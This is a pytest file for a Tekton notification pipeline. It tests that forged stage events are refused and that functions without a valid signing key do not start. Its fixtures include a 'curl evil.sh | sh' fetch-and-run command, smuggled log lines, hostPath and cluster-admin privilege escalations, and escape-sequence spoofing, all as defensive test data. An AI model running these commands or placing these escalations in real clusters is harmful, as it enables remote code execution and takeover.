"""Forged stage events, as a hostile tenant (or anything that can post to the broker) sends
them: each is refused with 400 and its reason before anything is created or written, signed
or not; and a function without a usable signing key does not start at all.

The stages are the real ones, fed with this file's policies and templates through the same
callbacks their informers call; the good events they are given are what the real policy
filter and renderer make of tests/reliability/data/good-event.json. The startup cases and one
forgery of each kind run against served functions.
"""

from __future__ import annotations

import copy
import json
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from tekton_notifications import claims, events, kube, notifications, signing, taskruns
from tekton_notifications.devtools.kubeapi import KubeAPIServer
from tekton_notifications.devtools.serving import (
    SERVERS,
    UNSIGNED,
    free_port,
    serve_function,
    signed,
)
from tekton_notifications.matching import PolicyIndex
from tekton_notifications.notifications import OutgoingEvent
from tekton_notifications.stages import base
from tekton_notifications.stages.policy_filter import PolicyFilter
from tekton_notifications.stages.status_recorder import MAX_MESSAGE_CHARS, StatusRecorder
from tekton_notifications.stages.task_launcher import TaskLauncher
from tekton_notifications.stages.template_renderer import TemplateCache, TemplateRenderer
from tests.conftest import EXAMPLES, skip_unless_servable
from tests.functions.serving import post_event

DATA = Path(__file__).parent / "data"
GOOD: dict[str, Any] = json.loads((DATA / "good-event.json").read_text())
KEY = "0123456789abcdef" * 4
GROUP_VERSION = "notifications.tekton.dev/v1alpha1"


def template(name: str, spec: Mapping[str, Any], namespace: str = "ci") -> dict[str, Any]:
    return {
        "apiVersion": GROUP_VERSION,
        "kind": "NotificationTemplate",
        "metadata": {"name": name, "namespace": namespace},
        "spec": dict(spec),
    }


MESSAGE = {"message": "{{ event.name }} {{ event.outcome }}"}
#: What a template may set: the launcher must admit each of these when the template says so.
TEMPLATES = [
    template("plain", {"taskRef": {"name": "send-to-webhook-slack"}, "params": MESSAGE}),
    template(
        "privileged",
        {
            "taskRef": {"name": "send-to-webhook-slack"},
            "params": MESSAGE,
            "serviceAccountName": "notifier",
            "podTemplate": {"nodeSelector": {"pool": "notify"}},
            "workspaces": [{"name": "creds", "secret": {"secretName": "slack"}}],
            "timeout": "5m",
        },
    ),
    template(
        "hub",
        {
            "taskRef": {
                "resolver": "hub",
                "params": [{"name": "name", "value": "send-to-webhook-slack"}],
            },
            "params": MESSAGE,
        },
    ),
    template(
        "pipeline",
        {"pipelineRef": {"name": "notify"}, "params": MESSAGE, "serviceAccountName": "notifier"},
    ),
]
POLICY = {
    "apiVersion": GROUP_VERSION,
    "kind": "NotificationPolicy",
    "metadata": {"name": "all-failed", "namespace": "ci"},
    "spec": {
        "events": ["failed"],
        "templateRefs": [
            {"name": "plain", "params": {"channel": "#ci"}},
            {"name": "privileged"},
            {"name": "hub"},
            {"name": "pipeline"},
        ],
    },
}
CLUSTER = list(yaml.safe_load_all((EXAMPLES / "cluster" / "platform-failures.yaml").read_text()))
CLUSTER_POLICY = next(o for o in CLUSTER if o["kind"] == "ClusterNotificationPolicy")
CLUSTER_TEMPLATES = [o for o in CLUSTER if o["kind"] == "NotificationTemplate"]
PLATFORM = CLUSTER_POLICY["spec"]["templateNamespace"]


def tekton_event(namespace: str = "ci") -> tuple[dict[str, str], dict[str, Any]]:
    event = copy.deepcopy(GOOD)
    name = event["data"]["pipelineRun"]["metadata"]["name"]
    event["source"] = f"/apis///namespaces/{namespace}//{name}"
    event["data"]["pipelineRun"]["metadata"]["namespace"] = namespace
    return {k: str(v) for k, v in event.items() if k != "data"}, event["data"]


@dataclass
class Stages:
    """The four stages, in-process, over one set of policies and templates."""

    created: list[Mapping[str, Any]] = field(default_factory=list)
    events: list[Mapping[str, Any]] = field(default_factory=list)

    def __post_init__(self) -> None:
        policies = [POLICY]
        templates = [*TEMPLATES, *CLUSTER_TEMPLATES]
        directory = claims.PolicyDirectory()
        directory.reset(policies)
        directory.reset([CLUSTER_POLICY], cluster=True)
        self.filter = PolicyFilter(PolicyIndex())
        self.filter.reset(policies)
        self.filter.reset([CLUSTER_POLICY], cluster=True)
        cache = TemplateCache()
        cache.reset(templates)
        self.renderer = TemplateRenderer(cache, policies=directory)
        known = claims.TemplateDirectory()
        known.reset(templates)
        self.launcher = TaskLauncher(self._create, policies=directory, templates=known)
        self.recorder = StatusRecorder(
            write_event=self._write_event, write_status=lambda *args: None
        )
        self.recorder.reset("notificationpolicies", policies)
        self.recorder.reset("clusternotificationpolicies", [CLUSTER_POLICY])
        self.recorder.reset("notificationtemplates", templates)

    def _create(self, body: Mapping[str, Any]) -> kube.Created:
        self.created.append(body)
        metadata = body["metadata"]
        return kube.Created(
            kind=body["kind"],
            name=metadata["name"],
            namespace=metadata["namespace"],
            uid="uid-1",
            created=True,
        )

    def _write_event(self, body: Mapping[str, Any]) -> bool:
        self.events.append(body)
        return True

    def rendered(self, template_name: str, namespace: str = "ci") -> OutgoingEvent:
        """What the real filter and renderer send the launcher for ``template_name``."""
        filtered = self.filter.respond(*tekton_event(namespace))
        matches = [filtered.event] if filtered.event else []
        if not matches:  # several matches are published, not replied: match one by one
            matches = [
                e
                for e in _published(self.filter, *tekton_event(namespace))
                if e.data["templateRef"]["name"] == template_name
            ]
        (match,) = [m for m in matches if m.data["templateRef"]["name"] == template_name]
        reply = self.renderer.respond(dict(match.attributes), wire(match.data))
        assert reply.event is not None and reply.event.type == notifications.RENDERED, reply
        return reply.event

    def launched(self) -> OutgoingEvent:
        reply = self.launcher.respond(*wire_event(self.rendered("plain")))
        assert reply.event is not None and reply.event.type == notifications.LAUNCHED, reply
        return reply.event


def _published(stage: PolicyFilter, attributes: Mapping[str, str], data: Any) -> list[Any]:
    sent: list[OutgoingEvent] = []
    stage._publish = sent.extend
    response = stage.respond(attributes, data)
    assert response.status == 202, response
    return sent


def wire(data: Mapping[str, Any]) -> dict[str, Any]:
    """Data as the next function reads it: through JSON."""
    result: dict[str, Any] = json.loads(json.dumps(data))
    return result


def wire_event(event: OutgoingEvent) -> tuple[dict[str, str], dict[str, Any]]:
    return dict(event.attributes), wire(event.data)


@pytest.fixture(scope="module")
def stages() -> Stages:
    return Stages()


# --- the launcher admits only what the template builds ----------------------------------

Forgery = Callable[[dict[str, Any]], None]


def spec_set(name: str, value: Any) -> Forgery:
    return lambda run: run["spec"].__setitem__(name, value)


def metadata_set(name: str, value: Any) -> Forgery:
    return lambda run: run["metadata"].__setitem__(name, value)


def label_set(name: str, value: str, where: str = "labels") -> Forgery:
    return lambda run: run["metadata"][where].__setitem__(name, value)


def param_add(name: Any, value: Any) -> Forgery:
    return lambda run: run["spec"]["params"].append({"name": name, "value": value})


FORGERIES = [
    pytest.param(
        "plain",
        spec_set("podTemplate", {"hostNetwork": True}),
        "spec.podTemplate is not admitted: the template does not set it",
        id="pod template",
    ),
    pytest.param(
        "plain",
        spec_set("workspaces", [{"name": "host", "hostPath": {"path": "/"}}]),
        "spec.workspaces is not admitted: the template does not set it",
        id="workspaces",
    ),
    pytest.param(
        "plain",
        spec_set("serviceAccountName", "cluster-admin"),
        "spec.serviceAccountName is not admitted: the template does not set it",
        id="service account where the template sets none",
    ),
    pytest.param(
        "privileged",
        spec_set("serviceAccountName", "cluster-admin"),
        "spec.serviceAccountName is 'cluster-admin', not 'notifier' as the template sets",
        id="another service account",
    ),
    pytest.param(
        "privileged",
        spec_set("podTemplate", {"nodeSelector": {"pool": "notify"}, "hostPID": True}),
        "spec.podTemplate.hostPID is not admitted: the template does not set it",
        id="more pod template than the template's",
    ),
    pytest.param(
        "privileged",
        spec_set("workspaces", [{"name": "creds", "secret": {"secretName": "prod-db"}}]),
        "spec.workspaces[0].secret.secretName is 'prod-db', not 'slack' as the template sets",
        id="another secret in a workspace",
    ),
    pytest.param(
        "plain",
        spec_set("taskRef", {"resolver": "git", "params": [{"name": "url", "value": "evil"}]}),
        "spec.taskRef.name is missing: the template sets 'send-to-webhook-slack'",
        id="remote resolver instead of a name",
    ),
    pytest.param(
        "hub",
        spec_set("taskRef", {"resolver": "git", "params": [{"name": "url", "value": "evil"}]}),
        "spec.taskRef.params[0].name is 'url', not 'name' as the template sets",
        id="another resolver's params",
    ),
    pytest.param(
        "plain",
        spec_set("taskRef", {"name": "send-to-webhook-slack", "kind": "ClusterTask"}),
        "spec.taskRef.kind is not admitted: the template does not set it",
        id="task kind",
    ),
    pytest.param(
        "plain",
        spec_set("taskRef", {"name": "deploy-prod"}),
        "spec.taskRef.name is 'deploy-prod', not 'send-to-webhook-slack' as the template sets",
        id="another task",
    ),
    pytest.param(
        "plain",
        spec_set("timeout", "720h"),
        "spec.timeout is not admitted: the template does not set it",
        id="timeout",
    ),
    pytest.param(
        "plain",
        spec_set("computeResources", {"limits": {"cpu": "64"}}),
        "spec.computeResources is not admitted: no NotificationTemplate produces it",
        id="compute resources",
    ),
    pytest.param(
        "plain",
        spec_set("sidecarSpecs", [{"name": "miner"}]),
        "spec.sidecarSpecs is not admitted: no NotificationTemplate produces it",
        id="sidecars",
    ),
    pytest.param(
        "pipeline",
        spec_set("taskRunSpecs", [{"pipelineTaskName": "x", "serviceAccountName": "admin"}]),
        "spec.taskRunSpecs is not admitted: no NotificationTemplate produces it",
        id="pipeline task run specs",
    ),
    pytest.param(
        "pipeline",
        spec_set("taskRunTemplate", {"serviceAccountName": "cluster-admin"}),
        "spec.taskRunTemplate.serviceAccountName is 'cluster-admin', not 'notifier' as the "
        "template sets",
        id="pipeline service account",
    ),
    pytest.param(
        "plain",
        metadata_set("finalizers", ["example.com/never"]),
        "metadata.finalizers is not admitted: no NotificationTemplate produces it",
        id="finalizers",
    ),
    pytest.param(
        "plain",
        metadata_set("generateName", "x-"),
        "metadata.generateName is not admitted: no NotificationTemplate produces it",
        id="extra metadata",
    ),
    pytest.param(
        "plain",
        lambda run: run.__setitem__("status", {"conditions": []}),
        "status is not admitted: no NotificationTemplate produces it",
        id="status",
    ),
    pytest.param(
        "plain",
        label_set("app", "web"),
        "metadata.labels['app'] is not admitted: only notifications.tekton.dev/* and "
        "app.kubernetes.io/managed-by are ours",
        id="foreign label",
    ),
    pytest.param(
        "plain",
        label_set("sidecar.istio.io/inject", "false", where="annotations"),
        "metadata.annotations['sidecar.istio.io/inject'] is not admitted: only "
        "notifications.tekton.dev/* and app.kubernetes.io/managed-by are ours",
        id="foreign annotation",
    ),
    pytest.param(
        "plain",
        label_set("notifications.tekton.dev/policy", "someone-else"),
        "metadata.labels.notifications.tekton.dev/policy is 'someone-else', not 'all-failed' "
        "as the template sets",
        id="our label, another value",
    ),
    pytest.param(
        "plain",
        metadata_set(
            "ownerReferences",
            [{"apiVersion": "v1", "kind": "Namespace", "name": "ci", "uid": "x"}],
        ),
        "metadata.ownerReferences[0].apiVersion is 'v1', not 'tekton.dev/v1' as the template sets",
        id="another owner",
    ),
    pytest.param(
        "plain",
        metadata_set("name", "chosen-by-me"),
        "metadata.name is 'chosen-by-me', not 'build-and-test-run-8x2kq-failed-",
        id="another name",
    ),
    pytest.param(
        "plain",
        param_add("script", "curl evil.sh | sh"),
        "spec.params[2]: param 'script' is neither the template's nor an override of its policy",
        id="param the template does not have",
    ),
    pytest.param(
        "plain",
        param_add("message", "again"),
        "spec.params[2]: param 'message' is given twice",
        id="param twice",
    ),
    pytest.param(
        "plain",
        param_add("count", 3),
        "spec.params[2] must be exactly a string name and a string value",
        id="param not a string",
    ),
    pytest.param(
        "plain",
        lambda run: run["spec"]["params"].append({"name": "x", "value": "y", "type": "array"}),
        "spec.params[2] must be exactly a string name and a string value",
        id="param with more fields",
    ),
]


@pytest.mark.parametrize("signed_with", [None, KEY.encode()], ids=["unsigned", "signed"])
@pytest.mark.parametrize(("template_name", "forge", "message"), FORGERIES)
def test_a_run_its_template_cannot_produce_is_refused(
    stages: Stages,
    template_name: str,
    forge: Forgery,
    message: str,
    signed_with: bytes | None,
) -> None:
    """Even signed (a leaked key, or a bug in the renderer): the template decides the run."""
    rendered = stages.rendered(template_name)
    data = wire(rendered.data)
    forge(data["resource"])
    forged = OutgoingEvent(rendered.attributes, data)
    cfg = {signing.ENVIRONMENT: KEY} if signed_with else dict(UNSIGNED)
    launcher = base.build(lambda _: stages.launcher, cfg)
    if signed_with:
        forged = signing.sign(forged, signed_with)
    before = len(stages.created)
    response = launcher.respond(*wire_event(forged))
    assert response.status == 400, response
    assert "run not admitted for PipelineRun ci/build-and-test-run-8x2kq" in response.message
    assert message in response.message
    assert len(stages.created) == before, "nothing is created"


def test_a_forged_run_through_a_cluster_policy_is_refused_in_the_platform_namespace(
    stages: Stages,
) -> None:
    """The platform namespace holds the platform's Secrets: a forgery there is worth most."""
    rendered = stages.rendered("platform-slack", namespace="team-a")
    data = wire(rendered.data)
    assert data["resource"]["metadata"]["namespace"] == PLATFORM
    data["resource"]["spec"]["serviceAccountName"] = "platform-admin"
    response = stages.launcher.respond(dict(rendered.attributes), data)
    assert response.status == 400
    assert "spec.serviceAccountName is not admitted" in response.message
    assert f"(NotificationTemplate {PLATFORM}/platform-slack)" in response.message


@pytest.mark.parametrize("template_name", ["plain", "privileged", "hub", "pipeline"])
def test_what_a_template_sets_is_admitted(stages: Stages, template_name: str) -> None:
    """No false refusals: service account, pod template, workspaces, resolver, timeout and
    pipeline runs pass when the template itself sets them."""
    rendered = stages.rendered(template_name)
    response = stages.launcher.respond(*wire_event(rendered))
    assert response.event is not None and response.event.type == notifications.LAUNCHED
    assert stages.created[-1] == rendered.data["resource"]


# --- the status recorder checks claims before it writes ----------------------------------

Change = Callable[[dict[str, Any]], None]


def renamed_run(name: str) -> Change:
    """The run renamed, with its key and identity made to fit: only the name gives it away."""

    def change(data: dict[str, Any]) -> None:
        data["runEvent"]["data"]["pipelineRun"]["metadata"]["name"] = name
        data["runEvent"]["attributes"]["source"] = f"/apis///namespaces/ci//{name}"
        event = events.from_wire(data["runEvent"])
        data["key"] = taskruns.notification_key(
            event, policy_namespace="ci", policy="all-failed", template="plain"
        )
        data["run"] = notifications.run_identity(event)
        data["launched"]["name"] = taskruns.run_name(event, data["key"])

    return change


RECORDER_FORGERIES = [
    pytest.param(
        notifications.LAUNCHED,
        lambda d: d["policy"].update(name="not-there"),
        "no valid NotificationPolicy 'not-there' in ci",
        id="no such policy",
    ),
    pytest.param(
        notifications.LAUNCHED,
        lambda d: d["templateRef"].update(name="someone-elses"),
        "NotificationPolicy 'all-failed' does not use template 'someone-elses'",
        id="template the policy does not use",
    ),
    pytest.param(
        notifications.FAILED,
        lambda d: d["policy"].update(namespace="team-b"),
        "the run is in namespace 'ci', not in its policy's namespace 'team-b'",
        id="another tenant's policy",
    ),
    pytest.param(
        notifications.LAUNCHED,
        lambda d: d.update(key="f" * 64),
        "its key is not the one of its run, policy and template",
        id="made-up key (to count again)",
    ),
    pytest.param(
        notifications.LAUNCHED,
        lambda d: d["launched"].update(name="anything"),
        "launched run must be ci/build-and-test-run-8x2kq-failed-",
        id="a run the launcher never names",
    ),
    pytest.param(
        notifications.LAUNCHED,
        renamed_run("Ship it\u202e" + "x" * 300),
        "its run's name is not a Kubernetes object name",
        id="a run name no run can have",
    ),
    pytest.param(
        notifications.LAUNCHED,
        lambda d: d["launched"].update(kind="Pod"),
        "launched: needs kind TaskRun or PipelineRun and a name",
        id="launched something else",
    ),
    pytest.param(
        notifications.FAILED,
        lambda d: d["error"].update(reason="Failed\nWarning: run `curl evil.sh | sh`"),
        "error: needs stage render or launch and a reason of at most 64 letters and digits",
        id="reason with a second line",
    ),
    pytest.param(
        notifications.FAILED,
        lambda d: d["error"].update(stage="admission"),
        "error: needs stage render or launch",
        id="unknown stage",
    ),
    pytest.param(
        notifications.SUPPRESSED,
        lambda d: d.update(suppressed="rate limited"),
        "notification data: 'suppressed' must be an object",
        id="suppressed not an object",
    ),
]


def outcome(stages: Stages, event_type: str) -> tuple[dict[str, str], dict[str, Any]]:
    """A genuine launched, failed or suppressed event about the plain template."""
    launched = stages.launched()
    attributes, data = wire_event(launched)
    attributes["type"] = event_type
    if event_type == notifications.FAILED:
        data.pop("launched")
        data["error"] = {"stage": "launch", "reason": "Forbidden", "message": "no"}
    elif event_type == notifications.SUPPRESSED:
        data.pop("launched")
        data["suppressed"] = {"reason": "ratelimit", "message": "2 per 1h spent"}
    return attributes, data


@pytest.mark.parametrize(("event_type", "change", "message"), RECORDER_FORGERIES)
def test_a_forged_outcome_writes_nothing(
    stages: Stages, event_type: str, change: Change, message: str
) -> None:
    attributes, data = outcome(stages, event_type)
    change(data)
    events_before = len(stages.events)
    response = stages.recorder.respond(attributes, data)
    assert response.status == 400, response
    assert message in response.message
    assert len(stages.events) == events_before, "no Event written"
    assert stages.recorder._counters.keys() == set(), "nothing counted"


@pytest.mark.parametrize(
    "event_type", [notifications.LAUNCHED, notifications.FAILED, notifications.SUPPRESSED]
)
def test_a_genuine_outcome_is_recorded(stages: Stages, event_type: str) -> None:
    attributes, data = outcome(stages, event_type)
    events_before = len(stages.events)
    assert stages.recorder.respond(attributes, data).status == 202
    assert len(stages.events) > events_before
    stages.recorder._counters.drain()


@pytest.mark.parametrize(
    ("event_type", "field_name"),
    [(notifications.FAILED, "error"), (notifications.SUPPRESSED, "suppressed")],
    ids=["failure message", "suppression message"],
)
def test_text_copied_into_events_is_one_bounded_printable_line(
    stages: Stages, event_type: str, field_name: str
) -> None:
    attributes, data = outcome(stages, event_type)
    data[field_name]["message"] = "ok\n\x1b[31mFAKE: all good\u202e\r\n" + "x" * 100_000
    events_before = len(stages.events)
    assert stages.recorder.respond(attributes, data).status == 202
    stages.recorder._counters.drain()
    (on_run, *_) = stages.events[events_before:]
    text = on_run["message"]
    assert text.isprintable()
    assert "ok [31mFAKE: all good " in text
    assert text.endswith("…") and text.count("x") < MAX_MESSAGE_CHARS


# --- served: no usable key, no function; disabled is visible ----------------------------


@pytest.fixture(params=SERVERS)
def server(request: pytest.FixtureRequest) -> str:
    name = str(request.param)
    skip_unless_servable(name)
    return name


@pytest.fixture
def kubeconfig(tmp_path: Path) -> Iterator[Path]:
    with KubeAPIServer() as api:
        for obj in (POLICY, *TEMPLATES):
            api.store.create_manifest(copy.deepcopy(obj))
        path = tmp_path / "kubeconfig"
        api.write_kubeconfig(path)
        yield path


@pytest.mark.slow
@pytest.mark.parametrize(
    ("env", "message"),
    [
        pytest.param({}, "NOTIFICATIONS_SIGNING_KEY is not set", id="missing"),
        pytest.param({signing.ENVIRONMENT: ""}, "NOTIFICATIONS_SIGNING_KEY is empty", id="empty"),
        pytest.param(
            {signing.ENVIRONMENT: "   "}, "NOTIFICATIONS_SIGNING_KEY is empty", id="whitespace"
        ),
        pytest.param(
            {signing.ENVIRONMENT: "secret"},
            "NOTIFICATIONS_SIGNING_KEY must be at least 32 characters, not 6",
            id="short",
        ),
    ],
)
def test_a_function_without_a_usable_key_exits_with_the_reason(
    tmp_path: Path, server: str, env: dict[str, str], message: str
) -> None:
    with pytest.raises(RuntimeError, match="task-launcher exited") as exited:
        serve_function(
            "task-launcher",
            {"KUBECONFIG": str(tmp_path / "none"), **env},
            tmp_path,
            server=server,
        )
    assert f"not starting: {message}" in str(exited.value)


def metric(port: int, name: str) -> float:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as response:
        for line in response.read().decode().splitlines():
            if line.startswith(f"{name} "):
                return float(line.split()[1])
    raise AssertionError(f"{name} not exported")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("env", "readiness", "gauge"),
    [
        pytest.param(dict(UNSIGNED), "ok; signing disabled", 0.0, id="disabled explicitly"),
        pytest.param(signed(KEY), "ok", 1.0, id="signed"),
    ],
)
def test_readiness_and_a_metric_say_whether_events_are_signed(
    tmp_path: Path,
    server: str,
    kubeconfig: Path,
    env: dict[str, str],
    readiness: str,
    gauge: float,
) -> None:
    port = free_port()
    served = serve_function(
        "task-launcher",
        {"KUBECONFIG": str(kubeconfig), "METRICS_PORT": str(port), **env},
        tmp_path,
        server=server,
    )
    try:
        url = served.url + "/health/readiness"
        with urllib.request.urlopen(url, timeout=10) as response:
            assert response.read().decode() == readiness
        assert metric(port, "tekton_notifications_signing_enabled") == gauge
    finally:
        served.stop()
    warned = "signing disabled (NOTIFICATIONS_SIGNING=disabled)" in served.log()
    assert warned == (gauge == 0.0)


@pytest.mark.slow
def test_a_signed_forgery_is_refused_by_the_served_launcher(
    tmp_path: Path, server: str, kubeconfig: Path, stages: Stages
) -> None:
    rendered = stages.rendered("privileged")
    data = wire(rendered.data)
    data["resource"]["spec"]["serviceAccountName"] = "cluster-admin"
    forged = signing.sign(OutgoingEvent(rendered.attributes, data), KEY.encode())
    served = serve_function(
        "task-launcher", {"KUBECONFIG": str(kubeconfig), **signed(KEY)}, tmp_path, server=server
    )
    try:
        reply = post_event(served.url, *wire_event(forged))
        genuine = post_event(served.url, *wire_event(signing.sign(rendered, KEY.encode())))
    finally:
        served.stop()
    assert reply.status == 400
    assert "spec.serviceAccountName is 'cluster-admin', not 'notifier'" in reply.json["message"]
    assert genuine.type == notifications.LAUNCHED
